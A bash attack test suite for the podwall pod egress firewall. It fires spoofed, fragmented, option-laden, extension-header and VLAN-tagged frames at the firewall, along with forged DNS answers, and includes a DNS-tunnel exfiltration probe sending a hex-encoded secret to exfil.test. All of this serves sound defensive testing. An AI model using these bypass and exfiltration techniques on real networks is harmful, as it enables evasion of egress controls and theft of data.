#!/usr/bin/env bash
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
# podwall attack suite: a hostile pod tries to get out. Every case proves both
# that the forbidden packet reached nothing (a capture in the inet namespace
# sees every frame that arrives there) and that what the policy allows still
# works afterwards. Raw frames are written with scapy from inside the pod.
#
# usage: tests/attack/run.sh [BUILD_DIR] [CASE...]
# env: E2E_KEEP=1, E2E_TIMEOUT=secs, CI=true (see tests/e2e/lib.sh)
set -u

# ============================================================ setup

# Pods: h, h2 (policy "atk": CIDR rules), fq (policy "fq": hostname rules
# only), free (podwall-cni chained, selected by no policy: open mode, an
# accomplice), bare (the bridge plugin only, podwall never saw it: the control
# that proves a frame is routable, and an accomplice podwall cannot govern).
FQ_NAMES="allowed.example.test *.wild.example.test evil-lo.example.test evil-meta.example.test
evil-mc.example.test evil-mapped.example.test evil-lo6.example.test addl.example.test
stray.example.test mix.example.test mapped.example.test long.example.test"

fq_policy() { # NAME LABEL
	local body
	# shellcheck disable=SC2086 # one name a word
	body="    - toFQDNs:$(fqdn_matches $FQ_NAMES)
      ports: [{port: 443, protocol: TCP}, {port: 9000, protocol: TCP}, {port: 80, protocol: TCP}]"
	policy_yaml "$1" "$2" "$body"
}

suite_setup() {
	cap_start
	# The node honours source routes, so that an IPv4 source-route frame from
	# the unselected control pod really goes somewhere (the control), and a
	# VLAN 5 interface on cni0 routes what arrives tagged (the control again).
	ns_sysctl "$NODE" net.ipv4.conf.all.accept_source_route=1
	if ip -n "$NODE" link add link cni0 name cni0.5 type vlan id 5 2>/dev/null; then
		ip -n "$NODE" link set cni0.5 up
		echo 1 >"$TMP/vlan-control"
	else
		echo "# this kernel has no 802.1Q devices: the VLAN control frames go nowhere" >&2
	fi
	# A second trusted dnsmasq with hostile-looking data, and a crafted one.
	cluster_hosts
	resolver_pod rdns
	RDNS4=$(pod_ip4 rdns)
	bg_start rdns ip netns exec "$(pod_ns rdns)" dnsmasq --keep-in-foreground \
		--conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
		--bind-interfaces --listen-address="$RDNS4" --addn-hosts="$TMP/dns.hosts" \
		--addn-hosts="$TMP/cluster.hosts" --local-ttl=1 --cname=cn-evil.example.test,allowed.example.test \
		--address=/evil-lo.example.test/127.0.0.1 \
		--address=/evil-meta.example.test/169.254.169.254 \
		--address=/evil-mc.example.test/224.0.0.1 \
		--address=/evil-mapped.example.test/::ffff:"$SRV_B" \
		--address=/evil-lo6.example.test/::1 \
		--log-queries --log-facility="$TMP/rdns.log"
	resolver_pod xdns
	XDNS4=$(pod_ip4 xdns)
	bg_start xdns ip netns exec "$(pod_ns xdns)" "$PY" "$FRAMES" xdns --addr "$XDNS4" \
		--log "$TMP/xdns.log" --a "$SRV_A" --b "$SRV_B" --c "$SRV_C" --seconds "${E2E_TIMEOUT:-1200}"
	wait_until 10 grep -q '^ready' "$TMP/xdns.log" || fail "xdns did not start"
	wait_until 10 eval '[ "$(in_node dig +time=1 +tries=1 +short @'"$RDNS4"' evil-lo.example.test)" = 127.0.0.1 ]' ||
		fail "rdns dnsmasq did not answer"

	policy_cidr atk e2e app=atk enforce "$SRV_A/32:443/TCP $SRV_A/32:9999/UDP $SRV6_A/128:443/TCP"
	fq_policy fq fq
	# Names fq may resolve without being granted them: the CNAME cases check
	# the answer-level rules (nothing learned from them), not the name filter.
	policy_write fq-resolve "apiVersion: podwall.io/v1alpha1
kind: EgressPolicy
metadata: {name: fq-resolve, namespace: e2e}
spec:
  podSelector: {matchLabels: {app: fq}}
  dns:
    resolveNames: [{matchName: cn-evil.example.test}, {matchName: cnx.example.test}]"
	agent_start --resolver "$RDNS4" --resolver "$XDNS4" || fail "agent did not start"
	wait_until 5 policy_loaded atk || fail "policy atk not loaded"
	wait_until 5 policy_loaded fq || fail "policy fq not loaded"
	wait_until 5 policy_loaded fq-resolve || fail "policy fq-resolve not loaded"
	cni_add h e2e h-0 app=atk || fail "pod h"
	cni_add h2 e2e h2-0 app=atk || fail "pod h2"
	cni_add fq e2e fq-0 app=fq || fail "pod fq"
	cni_add free e2e free-0 app=nobody-selects-this || fail "pod free"
	cni_add_plain bare e2e bare-0 app=bare || fail "pod bare"
	endpoint_in_map "$(pod_ifindex h)" || fail "h not enforced"
	[ "$(agent_cli endpoints -o json | jq -r '.[] | select(.name == "free-0") | .mode')" != enforce ] ||
		fail "free is enforced"
	endpoint_in_map "$(pod_ifindex bare)" && fail "bare is known to podwall"
	cluster_setup
}

# The allowed things, checked at the end of each case.
allowed_still_works() {
	assert_ok connect h "$SRV_A" 443
	assert_ok cap_seen "$(pod_ip4 h)" "$SRV_A" 443
}

# send_pair KIND DST [args]: the frame from the control pod (bare: podwall
# never saw it) and from the hostile pod h; sets CTL_ID and ATK_ID.
send_pair() {
	local kind=$1
	shift
	CTL_ID=$(next_id)
	ATK_ID=$(next_id)
	xmit bare "$kind" "$CTL_ID" "$@"
	xmit h "$kind" "$ATK_ID" "$@"
}

# expect_blocked "desc" ID [control ID]: after the sends, nothing with ID
# arrived; the control (if given) did arrive, proving the frame is routable.
expect_blocked() {
	local desc=$1 id=$2 ctl=${3:-}
	if cap_saw_id "$id"; then
		cap_show 5
		fail "BYPASS: $desc reached the inet namespace (id $id)"
	fi
	if [ -n "$ctl" ]; then
		cap_saw_id "$ctl" || e2e_log "note: control for $desc (id $ctl) did not arrive either"
		cap_saw_id "$ctl" && e2e_log "control for $desc arrived from the bare pod; blocked from h"
	fi
	true
}

# ============================================================ cases

spoofed_source_v4() {
	local d0
	d0=$(counter drop_spoof)
	send_pair tcp --dst "$SRV_A" --dport 443 --src 10.42.0.250
	send_pair udp --dst "$SRV_A" --dport 9999 --src "$(pod_ip4 h2)"
	local u_ctl=$CTL_ID u_atk=$ATK_ID
	local open_id
	open_id=$(next_id)
	xmit free tcp "$open_id" --dst "$SRV_A" --dport 443 --src 10.42.0.249
	sleep 1
	expect_blocked "spoofed TCP from the open-mode (unselected) pod" "$open_id"
	expect_blocked "spoofed TCP 10.42.0.250" "$((u_atk - 2))" "$((u_ctl - 2))"
	expect_blocked "UDP with a neighbour pod's source" "$u_atk" "$u_ctl"
	cap_seen_id "$((u_ctl - 2))" || fail "control: the bare pod's spoofed frame did not arrive"
	[ "$(counter drop_spoof)" -ge $((d0 + 6)) ] || fail "drop_spoof did not count the frames"
	allowed_still_works
}

spoofed_source_v6() {
	local d0
	d0=$(counter drop_spoof)
	send_pair tcp --dst "$SRV6_A" --dport 443 --src fd00:42::250
	local a1=$ATK_ID c1=$CTL_ID
	send_pair tcp --dst "$SRV6_A" --dport 443 --src fe80::1
	local open_id
	open_id=$(next_id)
	xmit free tcp "$open_id" --dst "$SRV6_A" --dport 443 --src fd00:42::249
	sleep 1
	expect_blocked "spoofed TCP from the open-mode (unselected) pod" "$open_id"
	expect_blocked "spoofed TCP fd00:42::250" "$a1" "$c1"
	expect_blocked "TCP from a link-local source" "$ATK_ID"
	cap_seen_id "$c1" || fail "control: the bare pod's spoofed frame did not arrive"
	[ "$(counter drop_spoof)" -ge $((d0 + 6)) ] || fail "drop_spoof did not count the frames"
	assert_ok connect h "$SRV6_A" 443
}

ipv4_fragments() {
	local k ids=() ctls=() d0
	d0=$(counter drop_fragment)
	for k in frag-first frag-later frag-whole frag-ooo frag-tiny frag-overlap; do
		send_pair "$k" --dst "$SRV_A" --dport 8080 --alt-port 443
		ids+=("$k:$ATK_ID")
		ctls+=("$CTL_ID")
	done
	send_pair frag-udp --dst "$SRV_A" --dport 7
	ids+=("frag-udp:$ATK_ID")
	ctls+=("$CTL_ID")
	sleep 1
	local i
	for i in "${!ids[@]}"; do
		expect_blocked "${ids[$i]%%:*} to $SRV_A:8080" "${ids[$i]#*:}" "${ctls[$i]}"
	done
	cap_seen_id "${ctls[2]}" || fail "control: the bare pod's fragments did not arrive"
	[ "$(counter drop_fragment)" -gt "$d0" ] || fail "drop_fragment did not count"
	grep -q "conn tcp $(pod_ip4 h) $SRV_A 8080" "$TMP/inet.log" && fail "BYPASS: the server accepted a connection from h on 8080"
	allowed_still_works
	assert_ok udp_send h "$SRV_A" 9999
}

ipv4_options() {
	local k ids=() ctls=() d0
	d0=$(counter drop_ip-options)
	# every one to the allowed destination and port: options alone must drop it
	for k in ipopt-lsrr ipopt-ssrr ipopt-rr ipopt-nop ipopt-ra; do
		send_pair "$k" --dst "$SRV_A" --dport 443 --alt "$SRV_B"
		ids+=("$k:$ATK_ID")
		ctls+=("$CTL_ID")
	done
	sleep 1
	local i
	for i in "${!ids[@]}"; do
		expect_blocked "${ids[$i]%%:*} (via $SRV_B)" "${ids[$i]#*:}" "${ctls[$i]}"
	done
	cap_seen_id "${ctls[0]}" || fail "control: the bare pod's loose source route did not arrive"
	[ "$(counter drop_ip-options)" -gt "$d0" ] || fail "drop_ip-options did not count"
	allowed_still_works
}

ipv6_extension_headers() {
	local k ids=() ctls=() d0 d1
	d0=$(counter drop_ipv6-ext)
	d1=$(counter drop_port)
	# hidden behind extension headers: a port the rule does not grant
	for k in v6-hbh v6-dst v6-chain v6-long v6-frag v6-frag-atomic v6-frag-later v6-unknown \
		v6-dst-unknown v6-truncated; do
		send_pair "$k" --dst "$SRV6_A" --dport 8080
		ids+=("$k:$ATK_ID")
		ctls+=("$CTL_ID")
	done
	# routing headers to the allowed destination and port, routed on to the denied one
	for k in v6-rh0 v6-rh2 v6-rh4; do
		send_pair "$k" --dst "$SRV6_A" --dport 443 --alt "$SRV6_B"
		ids+=("$k:$ATK_ID")
		ctls+=("$CTL_ID")
	done
	sleep 1
	local i
	for i in "${!ids[@]}"; do
		expect_blocked "${ids[$i]%%:*}" "${ids[$i]#*:}" "${ctls[$i]}"
	done
	cap_seen_id "${ctls[0]}" || fail "control: the bare pod's hop-by-hop frame did not arrive"
	[ "$(counter drop_ipv6-ext)" -gt "$d0" ] || fail "drop_ipv6-ext did not count"
	assert_ok connect h "$SRV6_A" 443
}

vlan_tagged_frames() {
	local k ids=() ctls=() d0
	d0=$(counter drop_l2)
	for k in vlan vlan0 qinq; do
		send_pair "$k" --dst "$SRV_B" --dport 443 --vlan 5
		ids+=("$k:$ATK_ID")
		ctls+=("$CTL_ID")
		send_pair "$k" --dst "$SRV6_B" --dport 443 --vlan 5
		ids+=("$k-v6:$ATK_ID")
		ctls+=("$CTL_ID")
	done
	sleep 1
	local i
	for i in "${!ids[@]}"; do
		expect_blocked "${ids[$i]%%:*} to a denied address" "${ids[$i]#*:}" "${ctls[$i]}"
	done
	if [ -f "$TMP/vlan-control" ]; then
		cap_seen_id "${ctls[0]}" || fail "control: the bare pod's VLAN 5 frame did not arrive"
	fi
	[ "$(counter drop_l2)" -gt "$d0" ] || fail "drop_l2 did not count"
	allowed_still_works
}

dns_untrusted_server() {
	local ip
	ip=$(pod_ip4 h)
	[ -z "$(qry h "$ROGUE_DNS" allowed.example.test)" ] || fail "UDP DNS to $ROGUE_DNS answered"
	in_pod h timeout 10 dig +tcp +time=2 +tries=1 +short @"$ROGUE_DNS" allowed.example.test >/dev/null 2>&1 &&
		fail "TCP DNS to $ROGUE_DNS answered"
	# an allowed address does not make port 53 allowed
	[ -z "$(qry h "$SRV_A" allowed.example.test)" ] || fail "DNS to $SRV_A answered"
	in_pod h timeout 10 dig -6 +time=1 +tries=1 +short @"$SRV6_A" allowed.example.test >/dev/null 2>&1 || true
	sleep 0.5
	cap_saw "$ip" "$ROGUE_DNS" 53 && fail "BYPASS: a DNS query reached $ROGUE_DNS"
	cap_saw "$ip" "$SRV_A" 53 && fail "BYPASS: a DNS query reached $SRV_A:53"
	cap_saw "$(pod_ip6 h)" "$SRV6_A" 53 && fail "BYPASS: a DNS query reached $SRV6_A:53"
	grep -q "$ip" "$TMP/rogue-dns.log" 2>/dev/null && fail "the rogue resolver logged h's query"
	wait_until 3 ev_seen drop "$ROGUE_DNS" 53 dns-untrusted || fail "no dns-untrusted event"
	[ "$(qry h "$DNS4" allowed.example.test)" = "$SRV_A" ] || fail "the trusted resolver no longer answers"
	[ -n "$(in_pod h timeout 10 dig +tcp +time=2 +tries=1 +short @"$DNS4" allowed.example.test)" ] ||
		fail "TCP DNS to the trusted resolver does not work"
	allowed_still_works
}

# A DNS tunnel: a TXT query for <hex of a secret>.exfil.test through the
# trusted resolver would reach the attacker's authoritative server. From a
# selected pod it never reaches the resolver (its query log stays clean) and
# the pod gets REFUSED from the node at once; the same query from the open
# pod does reach it (the control: the log does record such queries). A
# search-list expansion of an allowed name gets NXDOMAIN, the allowed name
# still resolves.
dns_tunnel_refused() {
	local secret ctl st n0 n1 t0 t1
	secret=$(printf 'podwall-secret-%s' "$RANDOM" | od -An -tx1 | tr -d ' \n')
	ctl="$secret-ctl.exfil.test"
	in_pod free timeout 10 dig +time=2 +tries=1 @"$RDNS4" "$ctl" TXT >/dev/null 2>&1 || true
	wait_until 5 grep -q "query\[TXT\] $ctl" "$TMP/rdns.log" ||
		fail "control: the open pod's TXT query is not in the resolver's log"
	n0=$(grep -c 'query\[' "$TMP/rdns.log")
	t0=$(date +%s%N)
	st=$(in_pod fq timeout 10 dig +time=2 +tries=1 @"$RDNS4" "$secret.exfil.test" TXT 2>&1 |
		sed -n 's/.*status: \([A-Z]*\).*/\1/p')
	t1=$(date +%s%N)
	[ "$st" = REFUSED ] || fail "the exfil query got status '${st:-none}', not REFUSED"
	e2e_log "exfil query answered REFUSED by the node in $(((t1 - t0) / 1000000)) ms (dig included)"
	st=$(in_pod fq timeout 10 dig +time=2 +tries=1 @"$RDNS4" \
		allowed.example.test.e2e.svc.cluster.local A 2>&1 | sed -n 's/.*status: \([A-Z]*\).*/\1/p')
	[ "$st" = NXDOMAIN ] || fail "a search-list expansion got '${st:-none}', not NXDOMAIN"
	[ "$(qry fq "$RDNS4" allowed.example.test)" = "$SRV_A" ] ||
		fail "the allowed name no longer resolves"
	sleep 0.5
	grep -q "$secret.exfil.test" "$TMP/rdns.log" && fail "BYPASS: the exfil query reached the resolver"
	grep -q 'cluster.local' "$TMP/rdns.log" && fail "the search-list expansion reached the resolver"
	n1=$(grep -c 'query\[' "$TMP/rdns.log")
	[ $((n1 - n0)) -eq 1 ] || fail "the resolver saw $((n1 - n0)) queries from fq, expected 1 (the allowed name)"
	wait_until 3 ev_seen drop "$RDNS4" 53 dns-name || fail "no dns-name event"
	allowed_still_works
}

dot_doh_not_allowed() {
	local ip p dst
	ip=$(pod_ip4 h)
	for dst in "$SRV_B" "$ROGUE_DNS"; do
		for p in 443 853; do
			assert_fails connect h "$dst" "$p" 1
		done
	done
	assert_fails connect h "$SRV_A" 853 1
	assert_fails connect h "$SRV6_B" 443 1
	sleep 0.5
	for dst in "$SRV_B" "$ROGUE_DNS"; do
		for p in 443 853; do
			cap_saw "$ip" "$dst" "$p" && fail "BYPASS: a SYN reached $dst:$p"
		done
	done
	cap_saw "$ip" "$SRV_A" 853 && fail "BYPASS: a SYN reached $SRV_A:853"
	cap_saw "$(pod_ip6 h)" "$SRV6_B" 443 && fail "BYPASS: a SYN reached $SRV6_B:443"
	allowed_still_works
}

icmp_udp_not_granted() {
	local ip
	ip=$(pod_ip4 h)
	in_pod h ping -c 2 -W 1 "$SRV_A" >/dev/null 2>&1 && fail "ping to $SRV_A answered (ICMP not granted)"
	in_pod h ping -c 1 -W 1 "$SRV_B" >/dev/null 2>&1 && fail "ping to $SRV_B answered"
	in_pod h ping -6 -c 1 -W 1 "$SRV6_A" >/dev/null 2>&1 && fail "ping to $SRV6_A answered"
	assert_fails udp_send h "$SRV_A" 7 1
	assert_fails udp_send h "$SRV_B" 9999 1
	send_pair icmp --dst "$SRV_A"
	sleep 0.5
	expect_blocked "raw ICMP echo" "$ATK_ID" "$CTL_ID"
	_cap_since | awk -v s="$ip" '$1=="cap" && $2==1 && $3==s {f=1} END {exit !f}' &&
		fail "BYPASS: an ICMP packet from h reached the inet namespace"
	cap_saw "$ip" "$SRV_A" 7 && fail "BYPASS: UDP reached $SRV_A:7"
	cap_saw "$ip" "$SRV_B" 9999 && fail "BYPASS: UDP reached $SRV_B:9999"
	assert_ok udp_send h "$SRV_A" 9999
	allowed_still_works
}

# An IPv6 packet to the IPv4-mapped form of an address the pod learned over IPv4.
ipv6_to_v4_learned() {
	[ "$(qry fq "$DNS4" allowed.example.test)" = "$SRV_A" ] || fail "fq cannot resolve allowed.example.test"
	assert_ok connect fq "$SRV_A" 443
	local d0 id1 id2 id3
	d0=$(counter drop_v4-mapped)
	id1=$(next_id)
	id2=$(next_id)
	id3=$(next_id)
	xmit fq v6-mapped "$id1" --src "$(pod_ip6 fq)" --dst "::ffff:$SRV_A" --dport 443
	xmit fq v6-mapped "$id2" --src "$(pod_ip6 fq)" --dst "::ffff:$SRV_B" --dport 443
	xmit fq v6-mapped "$id3" --src "$(pod_ip6 fq)" --dst "::$SRV_A" --dport 443
	sleep 1
	expect_blocked "IPv6 to ::ffff:$SRV_A" "$id1"
	expect_blocked "IPv6 to ::ffff:$SRV_B" "$id2"
	expect_blocked "IPv6 to ::$SRV_A" "$id3"
	[ "$(counter drop_v4-mapped)" -gt "$d0" ] || fail "drop_v4-mapped did not count"
	# resolved again: the frames above take longer than the 5 s --min-ttl
	[ "$(qry fq "$DNS4" allowed.example.test)" = "$SRV_A" ] || fail "fq cannot resolve allowed.example.test"
	assert_ok connect fq "$SRV_A" 443
}

# Forged answers to a real pending query of a pod with hostname rules: the
# crafted resolver answers slow.wild.example.test only after 1.5 s, and each
# forgery races it claiming the denied address $SRV_B.
forged_dns_answers() {
	cni_add fqf e2e fqf-0 app=fq
	local fqip port=41053 qid=4660 out=$TMP/forge.out res ep
	fqip=$(pod_ip4 fqf)
	ep=$(pod_ep_id fqf)
	res=$XDNS4
	forge() { # POD [forge args]
		local pod=$1
		shift
		in_pod "$pod" timeout 20 "$PY" "$FRAMES" forge --resolver "$res" --dst "$fqip" \
			--dst-mac "$(cat "$TMP/pods/fqf/mac")" --name slow.wild.example.test --addr "$SRV_B" "$@" >&2
	}
	round() { # DESCRIPTION POD [forge args]
		local desc=$1 pod=$2 bad=""
		shift 2
		in_pod fqf timeout 10 "$PY" "$FRAMES" dnsq "$res" slow.wild.example.test --sport $port \
			--id $qid --wait 2.5 --all >"$out" 2>&1 &
		local qp=$!
		sleep 0.4
		forge "$pod" "$@" || true
		wait $qp || true
		e2e_log "$desc: the pod saw: $(tr '\n' ';' <"$out")"
		fqdn_addrs fqf | out_has -Fx "$SRV_B" && bad+=" podwall-fqdn-lists-$SRV_B"
		learned_in_map "$ep" "$SRV_B" && bad+=" pw_learned-has-$SRV_B"
		connect fqf "$SRV_B" 443 1 >/dev/null 2>&1 && bad+=" connect-$SRV_B:443-succeeded"
		sleep 0.3
		cap_saw "$fqip" "$SRV_B" 443 && bad+=" server-saw-the-SYN"
		if [ -n "$bad" ] && [ "${LIMIT_ONLY:-0}" = 1 ]; then
			e2e_log "$desc: $bad (known limit: podwall does not govern that pod)"
			echo "$desc:$bad" >"$TMP/forge.limit"
		elif [ -n "$bad" ]; then
			echo "--- evidence: $bad" >&2
			agent_cli fqdn -o json | jq -c --arg p e2e/fqf-0 '.[] | select(.pod == $p)' >&2
			bpftool map dump pinned "$PIN/pw_learned" | jq -c --argjson ep "$ep" \
				'.[] | select(.formatted.key.ep_id == $ep) | .formatted' >&2 2>/dev/null ||
				bpftool map dump pinned "$PIN/pw_learned" | head -30 >&2
			cap_show 3
			dump_evidence
			fail "BYPASS: $desc:$bad"
		fi
		port=$((port + 1))
		qid=$((qid + 1))
	}
	round "from the pod itself to itself (resolver source)" fqf --dport $port --id $qid
	round "from another selected pod (resolver source)" h2 --dport $port --id $qid
	round "from the open-mode pod, wrong id" free --dport $port --id $((qid + 7))
	round "from the open-mode pod, wrong port" free --dport $((port + 100)) --id $qid
	round "from the open-mode pod, wrong source port" free --dport $port --id $qid --sport 5353
	round "unsolicited (no query pending), from the bare pod" bare --dport 45999 --id 999
	round "from the unselected (open-mode) pod, right port and id, spoofed resolver source" free --dport $port --id $qid
	# Known limit: a pod podwall never saw (no podwall-cni in its chain, or
	# host network) can forge the resolver's source. Reported, not failed.
	LIMIT_ONLY=1 round "LIMIT: from a pod podwall never saw (bare), right port and id" bare --dport $port --id $qid
	[ "$(qry fqf "$DNS4" allowed.example.test)" = "$SRV_A" ] || fail "fqf cannot resolve"
	assert_ok connect fqf "$SRV_A" 443
}

dns_additional_and_stray_records() {
	local fqip
	fqip=$(pod_ip4 fq)
	[ "$(qry fq "$XDNS4" addl.example.test)" = "$SRV_A" ] || fail "addl.example.test did not resolve"
	[ "$(qry fq "$XDNS4" stray.example.test | head -1)" = "$SRV_A" ] || fail "stray.example.test did not resolve"
	fqdn_addrs fq | grep -Fx "$SRV_B" && fail "BYPASS: $SRV_B learned from an additional/stray record"
	learned_in_map "$(pod_ep_id fq)" "$SRV_B" && fail "BYPASS: $SRV_B in pw_learned for fq"
	assert_fails connect fq "$SRV_B" 443 1
	sleep 0.3
	cap_saw "$fqip" "$SRV_B" 443 && fail "BYPASS: fq reached $SRV_B:443"
	assert_ok connect fq "$SRV_A" 443
}

dns_cname_unallowed_to_allowed() {
	cni_add fqc e2e fqc-0 app=fq
	local ip
	ip=$(pod_ip4 fqc)
	# dnsmasq: cn-evil.example.test CNAME allowed.example.test (A $SRV_A)
	qry fqc "$RDNS4" cn-evil.example.test | out_has -x "$SRV_A" || fail "cn-evil.example.test did not resolve"
	# crafted: cnx.example.test CNAME allowed.example.test, which is A $SRV_B
	qry fqc "$XDNS4" cnx.example.test | out_has -x "$SRV_B" || fail "cnx.example.test did not resolve"
	[ -z "$(fqdn_addrs fqc)" ] || fail "BYPASS: learned from a name the policy does not allow: $(fqdn_addrs fqc | tr '\n' ' ')"
	assert_fails connect fqc "$SRV_A" 443 1
	assert_fails connect fqc "$SRV_B" 443 1
	sleep 0.3
	cap_saw "$ip" "$SRV_A" 443 && fail "BYPASS: fqc reached $SRV_A:443 through a CNAME"
	cap_saw "$ip" "$SRV_B" 443 && fail "BYPASS: fqc reached $SRV_B:443 through a CNAME"
	# the allowed name itself still works
	[ "$(qry fqc "$DNS4" allowed.example.test)" = "$SRV_A" ] || fail "fqc cannot resolve allowed.example.test"
	assert_ok connect fqc "$SRV_A" 443
	assert_fails connect fqc "$SRV_B" 443 1
}

dns_special_addresses() {
	cni_add fqs e2e fqs-0 app=fq
	local ip ep a n
	ip=$(pod_ip4 fqs)
	ep=$(pod_ep_id fqs)
	[ "$(qry fqs "$RDNS4" evil-lo.example.test)" = 127.0.0.1 ] || fail "evil-lo did not resolve"
	[ "$(qry fqs "$RDNS4" evil-meta.example.test)" = 169.254.169.254 ] || fail "evil-meta did not resolve"
	[ "$(qry fqs "$RDNS4" evil-mc.example.test)" = 224.0.0.1 ] || fail "evil-mc did not resolve"
	[ -n "$(qry fqs "$RDNS4" evil-mapped.example.test AAAA)" ] || fail "evil-mapped did not resolve"
	[ -n "$(qry fqs "$RDNS4" evil-lo6.example.test AAAA)" ] || fail "evil-lo6 did not resolve"
	n=$(qry fqs "$XDNS4" mix.example.test | wc -l)
	[ "$n" -ge 5 ] || fail "mix.example.test: $n answers"
	[ -n "$(qry fqs "$XDNS4" mapped.example.test AAAA)" ] || fail "mapped.example.test did not resolve"
	local learned
	learned=$(fqdn_addrs fqs | tr '\n' ' ')
	e2e_log "fqs learned: $learned"
	for a in 127.0.0.1 169.254.169.254 224.0.0.1 0.0.0.0 255.255.255.255 "::ffff:$SRV_B" "::$SRV_B" ::1 fe80::1 ff02::1; do
		case " $learned " in *" $a "*) fail "BYPASS: learned $a" ;; esac
		learned_in_map "$ep" "$a" && fail "BYPASS: $a in pw_learned"
	done
	# only the ordinary address of mix.example.test
	[ "$learned" = "$SRV_A " ] || fail "learned set is '$learned', expected only $SRV_A"
	assert_fails connect fqs 169.254.169.254 80 1
	local id
	id=$(next_id)
	xmit fqs v6-mapped "$id" --src "$(pod_ip6 fqs)" --dst "::ffff:$SRV_B" --dport 443
	xmit fqs udp "$(next_id)" --dst 224.0.0.1 --dport 9999
	sleep 0.5
	cap_saw "$ip" 169.254.169.254 && fail "BYPASS: fqs reached 169.254.169.254"
	expect_blocked "IPv6 to ::ffff:$SRV_B" "$id"
	assert_ok connect fqs "$SRV_A" 443
}

# A pod gets the address of a deleted pod (host-local hands it out again):
# none of the deleted pod's allowances (flows, learned names) carry over.
reuse_check() { # DELETE_WITH_AGENT_DOWN(0|1)
	local down=$1 ipa ip6a ipb
	policy_yaml reusea reusea "    - toCIDRs: [{cidr: $SRV_B/32}]
      ports: [{port: 443, protocol: TCP}, {port: 9999, protocol: UDP}]
    - toFQDNs: [{matchName: long.example.test}]
      ports: [{port: 8080, protocol: TCP}]"
	policy_yaml reuseb reuseb "    - toCIDRs: [{cidr: $SRV_A/32}]
      ports: [{port: 443, protocol: TCP}]
    - toFQDNs: [{matchName: allowed.example.test}]
      ports: [{port: 443, protocol: TCP}]"
	wait_until 5 policy_loaded reusea || fail "policy reusea"
	wait_until 5 policy_loaded reuseb || fail "policy reuseb"
	cni_add ra e2e "ra-$down" app=reusea
	ipa=$(pod_ip4 ra)
	ip6a=$(pod_ip6 ra)
	# A's allowances: a UDP flow from a fixed port, a TCP flow, a learned name
	assert_ok in_pod ra timeout 10 "$PY" "$NETSRV" udp "$SRV_B" 9999 --src "$ipa" --timeout 2
	assert_ok xmit ra udp "$(next_id)" --dst "$SRV_B" --dport 9999 --sport 40999 --count 1
	assert_ok connect ra "$SRV_B" 443
	qry ra "$XDNS4" long.example.test | out_has -x "$SRV_C" || fail "long.example.test"
	assert_ok connect ra "$SRV_C" 8080
	EP_A=$(pod_ep_id ra)
	sleep 1.2 # the agent saves learned names once a second
	if [ "$down" = 1 ]; then
		agent_kill9
		cni_del ra || e2e_log "podwall-cni DEL failed with the agent down (expected)"
		agent_start --resolver "$RDNS4" --resolver "$XDNS4" || fail "agent restart"
	else
		cni_del ra
	fi
	# host-local: make the next address the one A had, and check it
	local last4 last6
	last4=$("$PY" -c 'import ipaddress,sys; print(ipaddress.ip_address(sys.argv[1]) - 1)' "$ipa")
	last6=$("$PY" -c 'import ipaddress,sys; print(ipaddress.ip_address(sys.argv[1]) - 1)' "$ip6a")
	[ ! -e "$TMP/ipam/pwnet/$ipa" ] || fail "host-local still holds $ipa"
	printf '%s' "$last4" >"$TMP/ipam/pwnet/last_reserved_ip.0"
	printf '%s' "$last6" >"$TMP/ipam/pwnet/last_reserved_ip.1"
	cni_add rb e2e "rb-$down" app=reuseb
	ipb=$(pod_ip4 rb)
	[ "$ipb" = "$ipa" ] || fail "host-local gave $ipb, not A's $ipa"
	e2e_log "B got A's address $ipb (v6 $(pod_ip6 rb), A had $ip6a); A ep ${EP_A:-?}, B ep $(pod_ep_id rb)"
	[ "$(pod_ep_id rb)" != "$EP_A" ] || e2e_log "NOTE: B was given A's endpoint id $EP_A (ids are reused after an agent restart)"
	cap_mark
	local id
	id=$(next_id)
	xmit rb udp "$id" --dst "$SRV_B" --dport 9999 --sport 40999 --count 1
	assert_fails in_pod rb timeout 10 "$PY" "$NETSRV" udp "$SRV_B" 9999 --timeout 1
	assert_fails connect rb "$SRV_B" 443 1
	assert_fails connect rb "$SRV_C" 8080 1
	sleep 0.5
	if cap_saw "$ipb" "$SRV_B" || cap_saw "$ipb" "$SRV_C"; then
		cap_show 5
		bpftool map dump pinned "$PIN/pw_flows" | grep -B2 -A12 "\"ep_id\": $(pod_ep_id rb)," | head -40 >&2
		dump_evidence
		fail "BYPASS: pod B with A's address reached A's destinations"
	fi
	assert_ok connect rb "$SRV_A" 443
	cni_del rb
}
pod_reuses_deleted_address() { reuse_check 0; }
pod_reuses_address_deleted_while_agent_down() { reuse_check 1; }

# Learned addresses expire: agent with --min-ttl 1 --max-ttl 2, rdns answers TTL 1.
connect_after_ttl_expired() {
	agent_stop || fail "agent stop"
	agent_start --resolver "$RDNS4" --resolver "$XDNS4" --min-ttl 1 --max-ttl 2 || fail "agent restart"
	cni_add ft e2e ft-0 app=fq
	local ip d0
	ip=$(pod_ip4 ft)
	[ "$(qry ft "$RDNS4" allowed.example.test)" = "$SRV_A" ] || fail "ft cannot resolve"
	assert_ok connect ft "$SRV_A" 443
	d0=$(counter drop_expired)
	sleep 3.5
	cap_mark
	assert_fails connect ft "$SRV_A" 443 1
	sleep 0.3
	cap_saw "$ip" "$SRV_A" 443 && fail "BYPASS: a SYN to an expired address reached $SRV_A"
	local d1
	d1=$(counter drop_expired)
	[ "$d1" -gt "$d0" ] || [ "$(counter drop_no-rule)" -gt 0 ] || fail "the expired connect was not counted"
	[ "$(qry ft "$RDNS4" allowed.example.test)" = "$SRV_A" ] || fail "ft cannot resolve again"
	assert_ok connect ft "$SRV_A" 443
}

CASES="spoofed_source_v4 spoofed_source_v6 ipv4_fragments ipv4_options ipv6_extension_headers
vlan_tagged_frames dns_untrusted_server dns_tunnel_refused dot_doh_not_allowed icmp_udp_not_granted ipv6_to_v4_learned
forged_dns_answers dns_additional_and_stray_records dns_cname_unallowed_to_allowed dns_special_addresses
pod_reuses_address_deleted_while_agent_down pod_reuses_deleted_address connect_after_ttl_expired
sanitizers_clean"

# ============================================================ main

# shellcheck source=common.sh
. "$(dirname "${BASH_SOURCE[0]}")/common.sh"
# shellcheck source=cluster.sh
. "$(dirname "${BASH_SOURCE[0]}")/cluster.sh"
suite_args 3,10p "$@" # before lib.sh, which reads BUILD
# shellcheck source=../e2e/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../e2e/lib.sh"
suite_start attack
RDNS4=$(pod_ip4 rdns)
XDNS4=$(pod_ip4 xdns)

suite_cases ${CASES/sanitizers_clean/$CLUSTER_CASES sanitizers_clean}
